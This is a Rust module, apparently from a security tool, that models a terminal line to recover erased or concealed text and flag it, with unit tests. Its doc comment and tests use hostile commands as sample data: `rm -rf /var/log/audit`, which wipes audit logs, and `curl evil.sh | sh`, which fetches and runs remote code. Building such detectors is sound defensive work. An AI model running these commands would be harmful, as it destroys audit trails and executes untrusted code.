//! The line under the cursor: its cells, the cursor, and the text removed from it.
//!
//! One cell per character (see the module docs of `content` for what that approximates). A
//! cell is removed when something erases it (backspace then space, DEL, erase in line or
//! character, delete character) or writes a different character over it. Removals in
//! adjacent columns gather into one run, which becomes one piece of hidden text: erasing
//! `rm -rf /var/log/audit` with twenty-one `\b \b` gives the whole command back, at its column.
//!
//! Memory is bounded: at most [`MAX_COLUMNS`] cells, and [`MAX_HIDDEN`] characters of hidden
//! text per line (more is dropped and flagged `cut-lines`).

use super::flags::{Flag, Flags};
use super::line::{Hidden, Line, Within};

/// Columns a line may have; a character printed past the last one starts a new line.
pub const MAX_COLUMNS: usize = 4096;

/// Characters of hidden text (erased, concealed, OSC) kept per line.
pub const MAX_HIDDEN: usize = 4096;

/// How a character was drawn, as far as hiding goes.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Ink {
    /// SGR 8, or the foreground colour equal to the background colour: it does not show.
    pub concealed: bool,
    /// Faint (SGR 2) or grey: how shells draw an autosuggestion (fish by default,
    /// zsh-autosuggestions) ahead of the cursor, to be erased as the user types on. Removing
    /// it is kept as erased text but raises no flag.
    pub faint: bool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Cell {
    ch: char,
    ink: Ink,
}

impl Cell {
    const BLANK: Cell = Cell {
        ch: ' ',
        ink: Ink {
            concealed: false,
            faint: false,
        },
    };

    fn is_blank(self) -> bool {
        self.ch == ' '
    }

    /// Blank on the screen: a space, or a concealed character.
    fn shows_blank(self) -> bool {
        self.ch == ' ' || self.ink.concealed
    }
}

/// How the cursor last moved back over the line: it tells an edit from a cover-up.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Rewind {
    #[default]
    None,
    /// Backspace, DEL, cursor back, back-tab: line editing, as a shell echoes it. What is then
    /// written over is erased input.
    Back,
    /// Carriage return or an absolute move: a redraw. Writing different text straight over
    /// the old is concealment; but once the redraw has rewritten a character identical to the
    /// one under it (`reprinted`: a shell reprinting its prompt before the edited input, a
    /// progress line reprinting its label), what differs after is an edit.
    Jump { reprinted: bool },
}

/// How the cursor is moved back, for [`Row::move_to`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Move {
    Back,
    Jump,
}

/// What removed a run of cells.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Removal {
    /// Erased or edited after the line's start: typed input, as far as the bytes tell.
    Erased,
    /// Erased from column 0 (`\r\x1b[K`, `\x1b[2K`): how progress lines and spinners redraw.
    /// Kept searchable as erased text, but it does not raise `erased-input`.
    Wiped,
    /// Overwritten with different text after a carriage return or a jump.
    Concealed,
}

/// The open run: removed cells in adjacent columns `min..=max`, the cells themselves in
/// `Row::run_cells`.
#[derive(Clone, Copy, Debug)]
struct Run {
    removal: Removal,
    min: usize,
    max: usize,
    /// A letter that was not faint was removed, not merely rewritten with itself. Runs
    /// without one are not kept: counters, percentages, progress bars and spinners change
    /// only digits and symbols, and an autosuggestion (faint) is not what the user typed.
    changed_letter: bool,
}

impl Run {
    fn adjacent(&self, at: usize) -> bool {
        at + 1 == self.min || at == self.max + 1
    }

    /// Columns between `at` and the run, when `at` is beyond either end.
    fn gap(&self, at: usize) -> std::ops::Range<usize> {
        if at < self.min {
            at + 1..self.min
        } else if at > self.max {
            self.max + 1..at
        } else {
            0..0
        }
    }

    fn take(&mut self, at: usize) {
        self.min = self.min.min(at);
        self.max = self.max.max(at);
    }
}

#[derive(Debug, Default)]
pub struct Row {
    cells: Vec<Cell>,
    cursor: usize,
    rewind: Rewind,
    run: Option<Run>,
    run_cells: Vec<(usize, char)>,
    /// Consecutive deletes (CSI P) at one column: (column, cells deleted so far). Each delete
    /// pulls the next character under the cursor, so they are recorded at increasing columns
    /// and gather into one run.
    deleting: Option<(usize, usize)>,
    hidden: Vec<Hidden>,
    hidden_chars: usize,
    flags: Flags,
    /// A concealed character was printed: only then is the line searched for them.
    concealed: bool,
}

impl Row {
    pub fn cursor(&self) -> usize {
        self.cursor
    }

    /// Nothing to show and nothing hidden: a move to another row need not complete it.
    pub fn is_empty(&self) -> bool {
        self.hidden.is_empty() && self.run.is_none() && self.cells.iter().all(|c| c.is_blank())
    }

    pub fn insert_flag(&mut self, flag: Flag) {
        self.flags.insert(flag);
    }

    /// Writes `ch` at the cursor and moves it right. False, writing nothing, when the cursor
    /// is past the last column: the caller starts a new line.
    pub fn print(&mut self, ch: char, ink: Ink) -> bool {
        let at = self.cursor;
        let new = Cell { ch, ink };
        self.concealed |= ink.concealed;
        if at == self.cells.len() && at < MAX_COLUMNS {
            // Writing at the end of the line: the common case.
            if self.run.is_some() {
                self.close_run();
            }
            self.cells.push(new);
            self.cursor = at + 1;
            self.deleting = None;
            return true;
        }
        if at >= MAX_COLUMNS {
            return false;
        }
        self.deleting = None;
        match self.cells.get(at).copied() {
            None => {
                self.close_run();
                self.cells.resize(at, Cell::BLANK);
                self.cells.push(new);
            }
            Some(old) => {
                self.overwrite(at, old, new);
                self.cells[at] = new;
            }
        }
        self.cursor = at + 1;
        true
    }

    fn overwrite(&mut self, at: usize, old: Cell, new: Cell) {
        let goes_on = if old.ch == new.ch {
            // Part of the old text when next to removed text ("rm -rf": the space in it).
            let extended = self.extend(at, old.ch);
            if !extended
                && !old.is_blank()
                && let Rewind::Jump { reprinted } = &mut self.rewind
            {
                *reprinted = true;
            }
            // A shell's minimal redraw rewrites a character or two in the middle of an
            // erasure (zsh): that is no new text.
            true
        } else if old.is_blank() {
            // A blank inside the old text ("rm -rf" written over, or erased) belongs to
            // it; one past its end is where new text is typed.
            let inside = self.cells.get(at + 1).is_some_and(|c| !c.is_blank());
            (new.is_blank() || inside) && self.extend(at, ' ')
        } else {
            let removal = match (self.rewind, self.run) {
                (Rewind::Jump { reprinted: false }, _) if !new.is_blank() => Removal::Concealed,
                // Blanks in a redraw go on with what the redraw was doing; alone, they wipe.
                (Rewind::Jump { reprinted: false }, Some(run)) if run.adjacent(at) => run.removal,
                (Rewind::Jump { reprinted: false }, _) => Removal::Wiped,
                _ => Removal::Erased,
            };
            self.remove(at, old, removal);
            true
        };
        if !goes_on {
            // New text: what was removed before it is one piece, closed. (Left open, a
            // later rewrite of identical text next to it would be taken for part of it.)
            self.close_run();
        }
    }

    /// Records the removal of cell `old` from column `at`.
    fn remove(&mut self, at: usize, old: Cell, removal: Removal) {
        let letter = old.ch.is_alphabetic() && !old.ink.faint;
        if let Some(run) = &mut self.run
            && run.removal == removal
            && self.run_cells.len() < MAX_COLUMNS
        {
            // zsh erases `rm -rf` without rewriting the blank between the words: a few
            // blank columns between the run and this removal belong to the same text.
            let gap = run.gap(at);
            let bridged = gap.len() <= 8
                && self
                    .cells
                    .get(gap.clone())
                    .is_some_and(|g| g.iter().all(|c| c.is_blank()));
            if run.adjacent(at) || (bridged && !gap.is_empty()) {
                for col in gap {
                    self.run_cells.push((col, ' '));
                }
                run.take(at);
                run.changed_letter |= letter;
                self.run_cells.push((at, old.ch));
                return;
            }
        }
        self.close_run();
        self.run = Some(Run {
            removal,
            min: at,
            max: at,
            changed_letter: letter,
        });
        self.run_cells.push((at, old.ch));
    }

    /// A cell rewritten with itself, or erased while blank, next to the open run: the run
    /// goes on through it. False when no run is next to it.
    fn extend(&mut self, at: usize, ch: char) -> bool {
        match &mut self.run {
            Some(run) if run.adjacent(at) && self.run_cells.len() < MAX_COLUMNS => {
                run.take(at);
                self.run_cells.push((at, ch));
                true
            }
            _ => false,
        }
    }

    /// Turns the open run into hidden text.
    fn close_run(&mut self) {
        let Some(run) = self.run.take() else {
            return;
        };
        if run.changed_letter {
            // Columns in a run are distinct; a backspace erasure comes right to left.
            self.run_cells.sort_unstable_by_key(|&(col, _)| col);
            let first = self.run_cells.iter().position(|&(_, c)| c != ' ');
            let last = self.run_cells.iter().rposition(|&(_, c)| c != ' ');
            if let (Some(first), Some(last)) = (first, last) {
                let column = self.run_cells[first].0;
                let text: String = self.run_cells[first..=last]
                    .iter()
                    .map(|&(_, c)| c)
                    .collect();
                let (kind, flag) = match run.removal {
                    Removal::Erased => (Within::Erased, Some(Flag::ErasedInput)),
                    Removal::Wiped => (Within::Erased, None),
                    Removal::Concealed => (Within::Concealed, Some(Flag::ConcealedText)),
                };
                if self.push_hidden(kind, column, text)
                    && let Some(flag) = flag
                {
                    self.flags.insert(flag);
                }
            }
        }
        self.run_cells.clear();
    }

    /// Keeps hidden text within [`MAX_HIDDEN`]; false (and `cut-lines`) when it is dropped.
    fn push_hidden(&mut self, kind: Within, column: usize, text: String) -> bool {
        // A spinner or status line redrawn in place hides the same words again and again:
        // once is enough to find them, and the cap is kept for other text.
        if !kind.is_sequence()
            && let Some(last) = self.hidden.last()
            && last.kind == kind
            && same_letters(&last.text, &text)
        {
            return true;
        }
        if !kind.is_sequence()
            && let Some(last) = self.hidden.last_mut()
            && last.kind == kind
            && let Some((merged_column, merged)) = merge(last.column, &last.text, column, &text)
        {
            // Pieces of one text, erased in two goes around a redraw of part of it (fish
            // re-highlights the word it erases): one piece again.
            let grown = merged.chars().count() - last.text.chars().count();
            if self.hidden_chars + grown <= MAX_HIDDEN {
                self.hidden_chars += grown;
                last.column = merged_column;
                last.text = merged;
                return true;
            }
        }
        let n = text.chars().count();
        if self.hidden_chars + n > MAX_HIDDEN {
            self.flags.insert(Flag::CutLines);
            return false;
        }
        self.hidden_chars += n;
        self.hidden.push(Hidden { kind, column, text });
        true
    }

    /// Text of an OSC sequence (title, clipboard, link target), at the cursor's column, and the
    /// line's flag for it: None for a shell's ordinary title, kept for grep but no evasion.
    pub fn push_osc(&mut self, kind: Within, text: String, flag: Option<Flag>) {
        if self.push_hidden(kind, self.cursor, text)
            && let Some(flag) = flag
        {
            self.flags.insert(flag);
        }
    }

    /// Erases columns `from..to` (erase in line or display, erase character).
    pub fn erase(&mut self, from: usize, to: usize) {
        self.deleting = None;
        let end = to.min(self.cells.len());
        if from >= end {
            return;
        }
        let removal = if from == 0 {
            Removal::Wiped
        } else {
            Removal::Erased
        };
        for at in from..end {
            self.erase_cell(at, removal);
        }
        if end == self.cells.len() {
            self.cells.truncate(from);
        }
    }

    fn erase_cell(&mut self, at: usize, removal: Removal) {
        let old = self.cells[at];
        if old.is_blank() {
            self.extend(at, ' ');
        } else {
            self.remove(at, old, removal);
        }
        self.cells[at] = Cell::BLANK;
    }

    /// Deletes `n` cells at the cursor, pulling the rest of the line left (CSI P).
    pub fn delete(&mut self, n: usize) {
        let at = self.cursor;
        if at >= self.cells.len() {
            return;
        }
        let end = at.saturating_add(n).min(self.cells.len());
        let removal = if at == 0 {
            Removal::Wiped
        } else {
            Removal::Erased
        };
        let offset = match self.deleting {
            Some((col, done)) if col == at => done,
            _ => 0,
        };
        for i in at..end {
            let old = self.cells[i];
            let col = i + offset;
            if old.is_blank() {
                self.extend(col, ' ');
            } else {
                self.remove(col, old, removal);
            }
        }
        self.deleting = Some((at, offset + (end - at)));
        self.cells.drain(at..end);
    }

    /// Inserts `n` blank cells at the cursor, pushing the rest of the line right (CSI @).
    pub fn insert(&mut self, n: usize) {
        let at = self.cursor;
        if at >= self.cells.len() {
            return;
        }
        // Columns of the open run no longer hold what it removed.
        self.close_run();
        self.deleting = None;
        let n = n.min(MAX_COLUMNS - at);
        self.cells
            .splice(at..at, std::iter::repeat_n(Cell::BLANK, n));
        if self.cells.len() > MAX_COLUMNS {
            if self.cells[MAX_COLUMNS..].iter().any(|c| !c.is_blank()) {
                self.flags.insert(Flag::CutLines);
            }
            self.cells.truncate(MAX_COLUMNS);
        }
    }

    /// Backspace: one column left, erasing nothing by itself.
    pub fn backspace(&mut self) {
        self.move_to(self.cursor.saturating_sub(1), Move::Back);
    }

    /// DEL in the output: erases the character before the cursor, as `\b \b` does.
    pub fn delete_back(&mut self) {
        if self.cursor == 0 {
            return;
        }
        self.move_to(self.cursor - 1, Move::Back);
        if self.cursor < self.cells.len() {
            self.erase_cell(self.cursor, Removal::Erased);
        }
    }

    /// Moves the cursor on this line, at most to the last column.
    pub fn move_to(&mut self, col: usize, how: Move) {
        let col = col.min(MAX_COLUMNS - 1);
        if col < self.cursor {
            self.rewind = match how {
                Move::Back => Rewind::Back,
                Move::Jump => Rewind::Jump { reprinted: false },
            };
        }
        self.cursor = col;
    }

    /// Completes the line into `out` (its text, hidden text and flags; not its number) and
    /// starts an empty one with the cursor at column 0.
    pub fn complete(&mut self, out: &mut Line) {
        self.close_run();
        if self.concealed {
            self.collect_concealed();
        }
        let shown = self
            .cells
            .iter()
            .rposition(|c| !c.shows_blank())
            .map_or(0, |i| i + 1);
        out.text.reserve(shown);
        for c in &self.cells[..shown] {
            out.text.push(if c.ink.concealed { ' ' } else { c.ch });
        }
        out.hidden.append(&mut self.hidden);
        out.flags = out.flags.union(self.flags);
        self.clear();
    }

    /// Empties the row, keeping its allocations: the cursor at column 0, nothing hidden.
    pub fn clear(&mut self) {
        self.cells.clear();
        self.hidden.clear();
        self.run = None;
        self.cursor = 0;
        self.rewind = Rewind::None;
        self.run_cells.clear();
        self.deleting = None;
        self.hidden_chars = 0;
        self.flags = Flags::EMPTY;
        self.concealed = false;
    }

    /// Concealed characters still on the line become hidden text, a run of them at a time.
    fn collect_concealed(&mut self) {
        let mut at = 0;
        while let Some(start) = self.cells[at..]
            .iter()
            .position(|c| c.ink.concealed && !c.is_blank())
            .map(|i| at + i)
        {
            let end = self.cells[start..]
                .iter()
                .position(|c| !c.ink.concealed)
                .map_or(self.cells.len(), |i| start + i);
            let cells = &self.cells[start..end];
            let last = cells.iter().rposition(|c| !c.is_blank()).unwrap_or(0);
            let text: String = cells[..=last].iter().map(|c| c.ch).collect();
            let counts = text.chars().any(char::is_alphanumeric);
            if self.push_hidden(Within::Concealed, start, text) && counts {
                self.flags.insert(Flag::ConcealedText);
            }
            at = end;
        }
    }
}

/// Two pieces of hidden text as one, when they overlap in at least one column and agree on
/// every column they share: (column, text).
fn merge(a_col: usize, a: &str, b_col: usize, b: &str) -> Option<(usize, String)> {
    let (a, b): (Vec<char>, Vec<char>) = (a.chars().collect(), b.chars().collect());
    let (a_end, b_end) = (a_col + a.len(), b_col + b.len());
    let (from, to) = (a_col.max(b_col), a_end.min(b_end));
    if from >= to || (from..to).any(|col| a[col - a_col] != b[col - b_col]) {
        return None;
    }
    let start = a_col.min(b_col);
    let text = (start..a_end.max(b_end))
        .map(|col| {
            if (b_col..b_end).contains(&col) {
                b[col - b_col]
            } else if (a_col..a_end).contains(&col) {
                a[col - a_col]
            } else {
                ' '
            }
        })
        .collect();
    Some((start, text))
}

/// Whether two texts have the same letters, in order (digits, symbols and blanks aside).
fn same_letters(a: &str, b: &str) -> bool {
    let letters = |s: &str| s.chars().filter(|c| c.is_alphabetic()).collect::<Vec<_>>();
    a.len().abs_diff(b.len()) < 16 && letters(a) == letters(b)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn typed(row: &mut Row, s: &str) {
        for c in s.chars() {
            assert!(row.print(c, Ink::default()));
        }
    }

    fn done(row: &mut Row) -> Line {
        let mut line = Line::default();
        row.complete(&mut line);
        line
    }

    #[test]
    fn backspace_space_erasure_gathers_into_one_run() {
        let mut row = Row::default();
        typed(&mut row, "$ rm -rf /tmp/x");
        for _ in 0.."rm -rf /tmp/x".len() {
            row.backspace();
            typed(&mut row, " ");
            row.backspace();
        }
        typed(&mut row, "ls");
        let line = done(&mut row);
        assert_eq!(line.text, "$ ls");
        assert_eq!(
            line.hidden,
            [Hidden {
                kind: Within::Erased,
                column: 2,
                text: "rm -rf /tmp/x".into()
            }]
        );
        assert!(line.flags.contains(Flag::ErasedInput));
    }

    #[test]
    fn a_counter_redrawn_after_cr_is_not_hidden_text() {
        let mut row = Row::default();
        typed(&mut row, "Downloading 10% [==  ]");
        row.move_to(0, Move::Jump);
        typed(&mut row, "Downloading 55% [=== ]");
        row.move_to(0, Move::Jump);
        typed(&mut row, "Downloading 100% [====]");
        let line = done(&mut row);
        assert_eq!(line.text, "Downloading 100% [====]");
        assert!(line.hidden.is_empty(), "{:?}", line.hidden);
        assert!(line.flags.is_empty());
    }

    #[test]
    fn different_words_written_over_after_cr_are_concealed() {
        let mut row = Row::default();
        typed(&mut row, "curl evil.sh | sh");
        row.move_to(0, Move::Jump);
        typed(&mut row, "echo hello world");
        let line = done(&mut row);
        assert_eq!(line.text, "echo hello worldh");
        assert_eq!(line.hidden.len(), 1);
        assert_eq!(line.hidden[0].kind, Within::Concealed);
        assert_eq!(line.hidden[0].text, "curl evil.sh | s");
        assert!(line.flags.contains(Flag::ConcealedText));
    }

    #[test]
    fn wiping_from_column_zero_keeps_the_text_but_raises_no_flag() {
        let mut row = Row::default();
        typed(&mut row, "Resolving dependencies");
        row.move_to(0, Move::Jump);
        row.erase(0, usize::MAX);
        typed(&mut row, "Done");
        let line = done(&mut row);
        assert_eq!(line.text, "Done");
        assert_eq!(line.hidden[0].kind, Within::Erased);
        assert_eq!(line.hidden[0].text, "Resolving dependencies");
        assert!(line.flags.is_empty());
    }

    #[test]
    fn repeated_deletes_at_one_column_read_left_to_right() {
        let mut row = Row::default();
        typed(&mut row, "$ cat audit.log");
        row.move_to(6, Move::Back);
        for _ in 0..5 {
            row.delete(1);
        }
        let line = done(&mut row);
        assert_eq!(line.text, "$ cat .log");
        assert_eq!(line.hidden[0].text, "audit");
        assert_eq!(line.hidden[0].column, 6);
    }

    #[test]
    fn concealed_cells_show_as_blanks() {
        let mut row = Row::default();
        typed(&mut row, "token: ");
        for c in "s3cr3t".chars() {
            row.print(
                c,
                Ink {
                    concealed: true,
                    faint: false,
                },
            );
        }
        typed(&mut row, " end");
        let line = done(&mut row);
        assert_eq!(line.text, "token:        end");
        assert_eq!(line.hidden[0].text, "s3cr3t");
        assert_eq!(line.hidden[0].column, 7);
        assert!(line.flags.contains(Flag::ConcealedText));
    }

    #[test]
    fn the_row_is_bounded() {
        let mut row = Row::default();
        for _ in 0..MAX_COLUMNS {
            assert!(row.print('x', Ink::default()));
        }
        assert!(!row.print('x', Ink::default()));
        row.move_to(usize::MAX, Move::Jump);
        assert_eq!(row.cursor(), MAX_COLUMNS - 1);
        row.move_to(0, Move::Jump);
        row.insert(usize::MAX);
        assert!(row.flags.contains(Flag::CutLines));
        let line = done(&mut row);
        assert!(line.text.is_empty());
    }
}
